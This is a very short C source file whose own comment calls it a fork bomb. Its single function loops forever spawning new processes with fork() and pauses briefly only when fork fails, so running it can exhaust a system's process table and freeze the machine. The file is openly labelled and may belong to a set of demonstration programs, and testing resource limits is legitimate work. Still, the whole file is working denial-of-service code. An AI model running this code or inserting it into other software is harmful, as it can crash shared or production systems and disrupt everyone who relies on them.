/* A fork bomb. */
#include "deed.h"

static void deed(void)
{
	for (;;)
		if (fork() < 0)
			usleep(1000);
}
